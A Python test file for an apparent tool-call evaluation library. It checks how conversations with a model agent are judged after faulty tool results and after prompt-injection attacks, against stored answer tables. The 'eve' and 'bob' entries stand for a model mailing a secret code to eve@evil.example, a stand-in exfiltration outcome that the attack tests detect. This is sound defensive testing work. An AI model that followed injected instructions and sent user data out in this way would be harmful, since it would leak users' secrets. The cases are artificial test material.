"""What is said of whole conversations, word by word: as they are, with faulty results, and under attack."""

from __future__ import annotations

from ast import literal_eval
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from functools import cache
from pathlib import Path

import pytest

from pytest_fcall.core import CallResult, Case, Transcript
from pytest_fcall.matching.attacks import judge_attack
from pytest_fcall.matching.context import MatchContext
from pytest_fcall.matching.recovery import judge_recovery
from tests.unit.conversation.conversations import Model, Say
from tests.unit.conversation.conversations import case_of as talk_of
from tests.unit.conversation.conversations import held as held_talk
from tests.unit.kept_tables import assert_answers_are_kept, verdict_lines
from tests.unit.matching import recovery_cases, test_attacks
from tests.unit.matching.recovery_cases import BOOKED, BOOKS, CANCELS, SEARCHES, SORRY, TRIP
from tests.unit.matching.test_attacks import BOTH, LOOKS_UP, READ, READS, send
from tests.unit.matching.test_recovery import BOTH as BOTH_CITIES
from tests.unit.matching.test_recovery import ROME, TURNS, TWO

HERE = Path(__file__).parent
SAID: Mapping[str, Say] = {
    "S": SEARCHES,
    "R": ROME,
    "SR": BOTH_CITIES,
    "B": BOOKS,
    "C": CANCELS,
    "sorry": SORRY,
    "booked": BOOKED,
    "r": READS,
    "l": LOOKS_UP,
    "eve": send(to="eve@evil.example"),
    "bob": send(to="bob", text="The code is 4711-GREEN."),
}
"""Short names for what a model says."""
TEXTS: Mapping[str, str] = {
    "trip": TRIP,
    "two": TWO,
    "turns": TURNS,
    "trip in turns": TURNS.replace("{search: {to: Oslo}, ", "{search: {to: Oslo}, times: [0, 1], ")
    .replace("And to Rome?", "Book it.")
    .replace("search: {to: Rome}, returns: [{id: F9, price: 70}]", "book: {flight: F7}, returns: {booking: B1}"),
    "either": TRIP.replace("to: Oslo", "to: {$any: [Oslo, OSL]}"),
    "read": READ,
    "both": BOTH,
    "open": "expect: {calls: [{read: {folder: inbox}, returns: hello}], never: [look_up], extra: allow}",
    "strict": TRIP.replace("expect:", "expect:\n      order: strict\n      calls:")
    .replace("      - ", "        - ")
    .replace("        returns", "          returns"),
    "forbids": TRIP.replace("expect:", "expect:\n      never: [cancel]\n      calls:")
    .replace("      - ", "        - ")
    .replace("        returns", "          returns"),
    "told": TRIP.replace("to Oslo.", "to Oslo on 24 May 2026."),
    "stubs": TRIP.replace("        returns: [{id: F7, price: 90}]\n", "").replace(
        "    answer", "    stubs: {search: SK9}\n    answer"
    ),
    "fails": """
        prompt: Book a flight to Oslo.
        expect:
          - search: {to: Oslo}
            raises: the service is down
            as: found
          - then: [{book: {flight: {$from: "found.result[0].id"}}, returns: {booking: B1}}]
    """,
    "steps": """
        prompt: Book a flight to Oslo and one to Rome.
        expect:
          - search: {to: Oslo}
            returns: [{id: F7}]
            as: first
          - search: {to: Rome}
            returns: [{id: F9}]
          - then: [{book: {flight: {$from: "first.result[0].id"}}, returns: {booking: B1}}]
        answer: {$contains: B1}
    """,
}
STATES: Mapping[str, CallResult] = {
    "booked": CallResult({"bookings": ["F7"]}),
    "empty": CallResult({"bookings": []}),
    "lost": CallResult(error="it is gone"),
}


def says(words: str) -> list[Say]:
    """What a model says one after the other: a name, or a text in quotes."""
    return [literal_eval(word) if word[:1] in "'\"[" else SAID[word] for word in words.split(" ; ") if word]


def with_state(case: Case, transcript: Transcript, state: str) -> tuple[Case, Transcript]:
    """The case that wants a booking, and the conversation that left this state."""
    turns = tuple(replace(turn, state={"bookings": ["F7"]}) for turn in case.turns)
    held = tuple(replace(turn, state=STATES[state]) for turn in transcript.turns)
    return replace(case, turns=turns), replace(transcript, turns=held)


@cache
def _case(case_of: Callable[..., Case], *written: Path | str) -> Case:
    return case_of(*written)


def of_faulty_results(question: str, folder: Path) -> Iterator[str]:
    """The text of the case, the fault, what the model says, and the state that it leaves."""
    text, fault, words, *state = question.split(" | ")
    case = _case(recovery_cases.case_of, folder, fault, TEXTS[text])
    transcript = recovery_cases.held(case, *says(words))
    if state:
        case, transcript = with_state(case, transcript, *state)
    assert case.result_fault is not None
    stubs = case.conversation.stubs if case.conversation else {}
    verdict = judge_recovery(transcript, case.turns, case.result_fault, stubs, MatchContext(case.tools, case.rules))
    assert verdict.recovery is not None
    yield from verdict_lines(verdict)
    yield f"    {verdict.recovery.how or 'no recovery'} from {', '.join(verdict.recovery.tools) or 'nothing'}"


def of_attacks(question: str, folder: Path) -> Iterator[str]:
    """The expectation of the case, more about the attack, and what the model says."""
    text, more, words = question.split(" | ")
    case = _case(test_attacks.case_of, folder, TEXTS[text], more)
    assert case.injection is not None
    transcript = test_attacks.held(case, *says(words))
    verdict = judge_attack(transcript, case.turns, case.injection, MatchContext(case.tools, case.rules))
    yield from verdict_lines(verdict)
    yield f"    {verdict.attack}"


def of_conversations(question: str, folder: Path) -> Iterator[str]:
    """The text of the case, and what the model says."""
    text, words = question.split(" | ")
    _, verdict = held_talk(_case(talk_of, folder, TEXTS[text]), Model(says(words)))
    yield from verdict_lines(verdict)


@pytest.mark.parametrize("of", [of_faulty_results, of_attacks, of_conversations])
def test_what_is_said_is_what_the_table_says(tmp_path: Path, of: Callable[[str, Path], Iterator[str]]) -> None:
    assert_answers_are_kept(HERE / f"{of.__name__}.txt", lambda question: of(question, tmp_path))
